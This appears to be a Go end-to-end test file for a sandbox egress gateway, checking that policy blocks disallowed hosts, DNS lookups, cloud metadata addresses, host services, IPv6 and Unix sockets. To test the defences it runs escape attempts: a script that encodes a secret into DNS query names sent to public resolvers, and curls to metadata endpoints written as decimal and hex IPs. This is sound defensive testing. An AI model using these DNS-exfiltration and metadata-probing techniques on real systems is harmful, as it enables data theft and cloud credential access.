//go:build root

package e2e

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cofferdam/cofferdam/api"
	"github.com/cofferdam/cofferdam/internal/testenv"
)

// A real npm install and a real go mod download go through the gateway in the
// setup stage, and are refused when the policy lacks the host.
func TestRealInstallThroughTheGateway(t *testing.T) {
	e := testenv.Start(t, testenv.Config{})
	npm := repo(t, map[string]string{"package.json": `{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}`})
	mod := repo(t, map[string]string{
		"go.mod":  "module x\n\ngo 1.21\n\nrequire github.com/google/uuid v1.6.0\n",
		"go.sum":  "github.com/google/uuid v1.6.0 h1:NIvaJDMOsjHA8n1jAhLSgzrAzy1Hgr+hNrb57e+94F0=\ngithub.com/google/uuid v1.6.0/go.mod h1:TIyPZe4MgqvfeYDBFedMoGGpEw/LqOeaOT+nhxU+yHo=\n",
		"main.go": "package main\n\nimport \"github.com/google/uuid\"\n\nfunc main() { println(uuid.Nil.String()) }\n",
	})
	for _, c := range []struct{ name, dir, setup, verify, host string }{
		{"npm", npm, "npm install --no-audit --no-fund", "node -e 'process.exit(require(\"is-number\")(5) ? 0 : 1)'", "registry.npmjs.org"},
		{"go", mod, "go mod download", "go build -o /tmp/x . && /tmp/x", "proxy.golang.org"},
	} {
		allow := fmt.Sprintf("version: 1\nsetup: {network: {allow: [{host: %s}]}}\n", c.host)
		t.Run(c.name+" allowed", func(t *testing.T) {
			got := run(t, e, api.TaskRequest{Repo: bundle(t, e, c.dir), Policy: allow, Setup: c.setup, Agent: sh("touch done"), Verify: c.verify})
			must(t, e, got, api.Succeeded, "")
			if got.Usage.EgressAllowed == 0 || got.Usage.BytesIn == 0 {
				t.Errorf("usage %+v; want connections and bytes", got.Usage)
			}
		})
		t.Run(c.name+" refused", func(t *testing.T) {
			got := run(t, e, api.TaskRequest{
				Repo: bundle(t, e, c.dir), Policy: "version: 1\nsetup: {network: {allow: [{host: other.example.com}]}}\n",
				Setup: c.setup, Agent: sh("touch done"),
			})
			must(t, e, got, api.Failed, "setup.failed")
			records, err := e.Client.Egress(context.Background(), got.ID)
			if err != nil {
				t.Fatal(err)
			}
			denied := false
			for _, r := range records {
				denied = denied || r.Verdict == "denied" && r.Reason == "policy.denied" && r.Name == c.host
				if r.Verdict == "allowed" {
					t.Errorf("allowed: %+v", r)
				}
			}
			if !denied {
				t.Errorf("no record denies %s: %+v", c.host, records)
			}
		})
	}
}

// A refusal is told the same way to the program inside, whichever way it
// tried, and the upstream saw nothing.
func TestRefusalsSpeakAndReachNothing(t *testing.T) {
	up := serve(t, "127.0.0.1:0")
	ns := testenv.Names(t, map[string]string{"ok.test.": "127.0.0.1", "no.test.": "127.0.0.1"})
	e := testenv.Start(t, testenv.Config{
		DNS:            ns.Addr,
		OperatorPolicy: fmt.Sprintf("version: 1\nprivate:\n  - {host: ok.test, ports: [%d]}\n", up.port),
	})
	box := sandboxOf(t, e, api.SandboxRequest{Policy: fmt.Sprintf("version: 1\nagent: {network: {allow: [{host: ok.test, ports: [%d]}]}}\n", up.port)})

	out, _ := execIn(t, e, box.ID, fmt.Sprintf("curl -s -m 20 http://ok.test:%d/", up.port))
	if !strings.Contains(out, "hello from ok.test") {
		t.Fatalf("the allowed name says %q", out)
	}
	base := up.bytes.Load()
	for _, c := range []struct{ script, want string }{
		{"curl -s -m 20 http://no.test/", "policy.denied"},
		{"curl -s -m 20 -k https://no.test/", "policy.denied"},
		{"curl -s -m 20 https://no.test/", "policy.denied"}, // under an authority that curl trusts inside
		{fmt.Sprintf("curl -s -m 20 -o /dev/null -w '%%{http_code} %%{errormsg}' http://no.test:%d/", up.port), "000"},
		{fmt.Sprintf("curl -s -m 20 -H 'Host: no.test' http://ok.test:%d/", up.port), "policy.name_mismatch"},
		{fmt.Sprintf("curl -s -m 20 -x http://ok.test:%d -p https://no.test/ -o /dev/null -w '%%{http_connect}'", up.port), "403"},
		{fmt.Sprintf("curl -s -m 20 http://127.0.0.1:%d/ -w '%%{http_code}'", up.port), "000"},
		{fmt.Sprintf("curl -s -m 20 http://%s:%d/ -w '%%{http_code}'", hostAddress(t), up.port), "000"},
	} {
		if out, _ := execIn(t, e, box.ID, c.script); !strings.Contains(out, c.want) {
			t.Errorf("%s says %q, want %s", c.script, out, c.want)
		}
	}
	if n := up.bytes.Load() - base; n != 0 {
		t.Errorf("the upstream saw %d bytes of refused connections", n)
	}
	if asked := ns.Asked("no.test"); len(asked) != 0 {
		t.Errorf("a name that is not allowed was looked up: %q", asked)
	}
}

// B04: no query leaves for a name that is not allowed, not even from the gateway.
func TestNamesAreNoExit(t *testing.T) {
	ns := testenv.Names(t, map[string]string{"ok.test.": "127.0.0.1"})
	e := testenv.Start(t, testenv.Config{DNS: ns.Addr})
	box := sandboxOf(t, e, api.SandboxRequest{Policy: "version: 1\nagent: {network: {allow: [{host: ok.test}]}}\n"})
	out, _ := execIn(t, e, box.ID, `s=$(echo secret | od -An -tx1 | tr -d ' \n')
getent hosts $s.x.no.test; getent ahostsv6 $s.y.no.test
curl -s -m 5 http://$s.z.no.test/; curl -s -k -m 5 https://$s.w.no.test/
python3 - $s <<'P'
import socket, struct, sys, time
def query(name, qtype):
    b = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b + struct.pack('>HH', qtype, 1)
for server, port in (('8.8.8.8', 53), ('198.18.0.1', 53), ('8.8.8.8', 5353), ('224.0.0.251', 5353)):
    for qtype in (1, 28, 16, 65, 15, 255):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
        t = time.time()
        try:
            s.connect((server, port)); s.send(query(sys.argv[1] + '.q%d.no.test' % qtype, qtype)); s.recv(2000)
        except OSError as e:
            pass
        print('%s:%d type %d %s' % (server, port, qtype, 'slow' if time.time() - t > 1.9 and port == 53 and server == '198.18.0.1' else 'fast'))
for server in ('8.8.8.8', '1.1.1.1'):
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect((server, 53)); print('LEAK')
    except OSError:
        pass
P`)
	if strings.Contains(out, "LEAK") || strings.Contains(out, "slow") {
		t.Errorf("says %q", out)
	}
	if asked := ns.Asked("no.test"); len(asked) != 0 {
		t.Errorf("%d queries left: %q", len(asked), asked)
	}
	if asked := ns.Asked("ok.test"); len(asked) != 0 {
		t.Errorf("an allowed name was looked up before anybody connected: %q", asked)
	}
}

// B05, B06, B08: metadata addresses, the host's services, other sandboxes and
// IPv6 are not reached, even when the policy names them.
func TestAddressesThatAreNeverReached(t *testing.T) {
	host := serve(t, "0.0.0.0:0")
	six := serve(t, "[::1]:0")
	ns := testenv.Names(t, map[string]string{
		"meta.test.": "169.254.169.254", "ecs.test.": "169.254.170.2", "ali.test.": "100.100.100.200", "loop.test.": "127.0.0.1", "six.test.": "::1",
		"mapped.test.": "::ffff:169.254.169.254", "aws6.test.": "fd00:ec2::254", "metadata.google.internal.": "169.254.169.254", "me.test.": hostAddress(t),
	})
	e := testenv.Start(t, testenv.Config{
		DNS: ns.Addr,
		// Even the operator can't open these.
		OperatorPolicy: "version: 1\nprivate:\n  - {host: meta.test, ports: [80]}\n  - {host: 169.254.169.254, ports: [80]}\n  - {host: metadata.google.internal, ports: [80]}\n  - {host: 100.100.100.200, ports: [80]}\n" +
			fmt.Sprintf("  - {host: loop.test, ports: [%d]}\n  - {host: six.test, ports: [%d]}\n", serverPort(t, host.addr), six.port),
	})
	control := serverPort(t, strings.TrimPrefix(e.URL, "http://"))
	var rules []string
	for _, h := range []string{"meta.test", "ecs.test", "ali.test", "mapped.test", "aws6.test", "metadata.google.internal", "169.254.169.254", "169.254.170.2", "100.100.100.200", "'fd00:ec2::254'", "'::ffff:169.254.169.254'"} {
		rules = append(rules, fmt.Sprintf("{host: %s, ports: [80]}", h))
	}
	for _, h := range []string{"loop.test", "me.test", "127.0.0.1", "'::1'", hostAddress(t), "198.18.0.1"} {
		rules = append(rules, fmt.Sprintf("{host: %s, ports: [%d, %d, %d]}", h, host.port, six.port, control))
	}
	rules = append(rules, fmt.Sprintf("{host: six.test, ports: [%d]}", six.port))
	box := sandboxOf(t, e, api.SandboxRequest{Policy: "version: 1\nagent: {network: {allow: [" + strings.Join(rules, ", ") + "]}}\n"})

	try := func(url string) string {
		out, _ := execIn(t, e, box.ID, "curl -s -m 10 '"+url+"'")
		return out
	}
	for _, url := range []string{
		"http://meta.test/", "http://ecs.test/", "http://ali.test/", "http://mapped.test/", "http://aws6.test/", "http://metadata.google.internal/computeMetadata/v1/",
		"http://169.254.169.254/", "http://169.254.170.2/", "http://100.100.100.200/", "http://[fd00:ec2::254]/", "http://[::ffff:169.254.169.254]/", "http://2852039166/", "http://0xa9fea9fe/",
	} {
		if out := try(url); out != "" && !strings.Contains(out, "policy.address") && !strings.Contains(out, "policy.denied") {
			t.Errorf("%s says %q", url, out)
		}
	}
	for _, h := range []string{"me.test", hostAddress(t), "198.18.0.1", "127.0.0.1", "[::1]", "host.docker.internal", "198.18.0.3"} {
		for _, port := range []int{host.port, control} {
			if out := try(fmt.Sprintf("http://%s:%d/v1/health", h, port)); strings.Contains(out, "hello") || strings.Contains(out, "boot") {
				t.Errorf("%s:%d says %q", h, port, out)
			}
		}
	}
	if out := try(fmt.Sprintf("http://loop.test:%d/v1/health", control)); strings.Contains(out, "boot") {
		t.Errorf("the control plane answers a sandbox: %q", out)
	}
	if n := host.conns.Load(); n != 0 {
		t.Errorf("%d connections reached the host's service", n)
	}
	// What the operator opened, and only that, is reached: v4 and v6 alike.
	if out := try(fmt.Sprintf("http://loop.test:%d/", host.port)); !strings.Contains(out, "hello from loop.test") {
		t.Errorf("the port that the operator opened says %q", out)
	}
	if out := try(fmt.Sprintf("http://six.test:%d/", six.port)); !strings.Contains(out, "hello from six.test") {
		t.Errorf("the IPv6 port that the operator opened says %q", out)
	}
	if out, _ := execIn(t, e, box.ID, "ping -6 -c1 -W2 fe80::1 2>&1; curl -s -m 3 -6 http://[fd00::1]/; ping -c1 -W2 8.8.8.8 2>&1"); strings.Contains(out, " 0% packet loss") {
		t.Errorf("an answer came: %q", out)
	}
}

// A sandbox with an empty policy has no device at all, and its own loopback works.
func TestEmptyPolicyReachesNothing(t *testing.T) {
	e := testenv.Start(t, testenv.Config{})
	box := sandboxOf(t, e, api.SandboxRequest{})
	out, _ := execIn(t, e, box.ID, `curl -s -m 5 http://proxy.golang.org/ && echo LEAK; curl -s -m 5 http://203.0.113.7/ && echo LEAK
getent hosts proxy.golang.org && echo LEAK
python3 -c "
import socket, threading
s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()
c = socket.create_connection(s.getsockname()); print('loopback works')"`)
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "loopback works") {
		t.Errorf("says %q", out)
	}
}

// The grant is the stage's: what setup may reach, the agent may not, and a
// connection that setup left open is cut.
func TestGrantEndsWithItsStage(t *testing.T) {
	up := serve(t, "127.0.0.1:0")
	ns := testenv.Names(t, map[string]string{"ok.test.": "127.0.0.1"})
	e := testenv.Start(t, testenv.Config{
		DNS:            ns.Addr,
		OperatorPolicy: fmt.Sprintf("version: 1\nprivate:\n  - {host: ok.test, ports: [%d]}\n", up.port),
	})
	url := fmt.Sprintf("http://ok.test:%d", up.port)
	got := run(t, e, api.TaskRequest{
		Repo:   bundle(t, e, small(t)),
		Policy: fmt.Sprintf("version: 1\nsetup: {network: {allow: [{host: ok.test, ports: [%d]}]}}\n", up.port),
		Setup:  "curl -sf -m 10 " + url + "/; nohup sh -c 'while :; do curl -s -m 2 -d nonce=left " + url + "/effect; sleep 0.1; done' >/dev/null 2>&1 &",
		Agent:  sh("sleep 1; curl -s -m 10 -d nonce=agent " + url + "/effect; sleep 1; ps -e 2>/dev/null; cat /proc/[0-9]*/cmdline | tr '\\0' ' '"),
	})
	must(t, e, got, api.Succeeded, "")
	up.mu.Lock()
	defer up.mu.Unlock()
	if up.effects["agent"] != 0 {
		t.Error("the agent reached what only setup may")
	}
	if text := log(t, e, got.ID, "agent"); strings.Contains(text, "nonce=left") {
		t.Errorf("a process of setup lives in the agent's stage: %s", text)
	}
}

// hostAddress is an address of this machine that is not the loopback.
func hostAddress(t testing.TB) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() && ip.IP.To4() != nil {
			return ip.IP.String()
		}
	}
	return "127.0.0.2"
}

func serverPort(t testing.TB, addr string) int {
	t.Helper()
	a, err := net.ResolveTCPAddr("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	return a.Port
}

// The host's Unix sockets are not in the sandbox's view, and its own work (B09).
func TestUnixSockets(t *testing.T) {
	e := testenv.Start(t, testenv.Config{})
	box := sandboxOf(t, e, api.SandboxRequest{})
	dir, err := os.MkdirTemp("/usr/local", "cfd-sock")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	file := filepath.Join(dir, "s")
	l, err := net.Listen("unix", file)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(file, 0o777); err != nil {
		t.Fatal(err)
	}
	out, _ := execIn(t, e, box.ID, `python3 -c "
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect('`+file+`'); print('LEAK')
except OSError as e:
    print('refused')
a, b = socket.socketpair(); a.send(b'x'); print('pair', b.recv(1))
l = socket.socket(socket.AF_UNIX); l.bind('/tmp/s'); l.listen(); c = socket.socket(socket.AF_UNIX); c.connect('/tmp/s'); print('own works')"`)
	if strings.Contains(out, "LEAK") || !strings.Contains(out, "own works") {
		t.Errorf("says %q", out)
	}
}
